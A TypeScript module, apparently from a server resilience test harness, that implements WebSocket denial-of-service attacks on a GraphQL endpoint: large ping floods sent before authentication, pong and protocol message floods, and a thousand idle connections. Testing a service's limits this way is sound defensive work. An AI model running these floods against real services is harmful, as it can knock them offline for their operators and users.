import { once } from 'node:events';
import { setTimeout as pause } from 'node:timers/promises';
import WebSocket from 'ws';
import { keepAt, type Attack, type Target } from './target.ts';

const RECONNECT = 200;
/** The bytes buffered in the attacker's own connection. */
const ENOUGH = 256 * 1024;
/** Messages before the attacker's other connections have their turn, and the end of this one is noticed. */
const AT_ONCE = 2000;

/** Pings with the largest payload before authentication, whose pongs aren't read. */
export const pingFloods: Attack = (target, signal, count) =>
  keepAt(8, signal, async () => {
    const socket = await open(target, signal);
    socket.pause();
    await flood(socket, () => socket.ping('x'.repeat(125)));
    count('cut');
    await pause(RECONNECT);
  });

/** Unsolicited pongs. */
export const pongFloods: Attack = (target, signal, count) =>
  keepAt(8, signal, async () => {
    const socket = await open(target, signal);
    await flood(socket, () => socket.pong());
    count('cut');
    await pause(RECONNECT);
  });

/** Protocol messages before and after authentication. */
export const messageFloods: Attack = (target, signal, count) =>
  keepAt(8, signal, async (place) => {
    const socket = await open(target, signal);
    if (place % 2 === 0) socket.send(init(target));
    socket.pause();
    const messages = [
      JSON.stringify({ type: 'ping', payload: { text: 'x'.repeat(4000) } }),
      JSON.stringify({ id: '1', type: 'subscribe', payload: { query: '{ client { name } }' } }),
    ];
    let number = 0;
    await flood(socket, () => socket.send(messages[(number += 1) % messages.length] ?? ''));
    count('cut');
    await pause(RECONNECT);
  });

/** A thousand silent connections, opened within a few seconds. */
export const idleSockets: Attack = (target, signal, count) =>
  keepAt(1000, signal, async (place, round) => {
    if (round === 0) await pause(10 * place);
    if (signal.aborted) return;
    const socket = await open(target, signal);
    if (place % 2 === 0 && socket.readyState === socket.OPEN) socket.send(init(target));
    await ended(socket);
    count('closed');
    await pause(5000);
  });

function init({ key }: Target): string {
  return JSON.stringify({ type: 'connection_init', payload: { 'x-api-key': key } });
}

/** Open or already closed; terminated when the signal aborts. */
async function open({ url }: Target, signal: AbortSignal): Promise<WebSocket> {
  const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws');
  const cut = () => {
    socket.terminate();
  };
  signal.addEventListener('abort', cut, { once: true });
  socket.once('close', () => signal.removeEventListener('abort', cut));
  socket.on('error', () => undefined);
  await Promise.race([once(socket, 'open').catch(() => undefined), ended(socket)]);
  return socket;
}

function ended(socket: WebSocket): Promise<unknown> {
  if (socket.readyState === socket.CLOSED) return Promise.resolve();
  return new Promise((resolve) => socket.once('close', resolve));
}

/** Sends as fast as possible until the connection ends. */
async function flood(socket: WebSocket, send: () => void): Promise<void> {
  const isOpen = () => socket.readyState === socket.OPEN;
  while (isOpen()) {
    for (let left = AT_ONCE; left > 0 && isOpen() && socket.bufferedAmount < ENOUGH; left -= 1) send();
    await pause(5);
  }
}
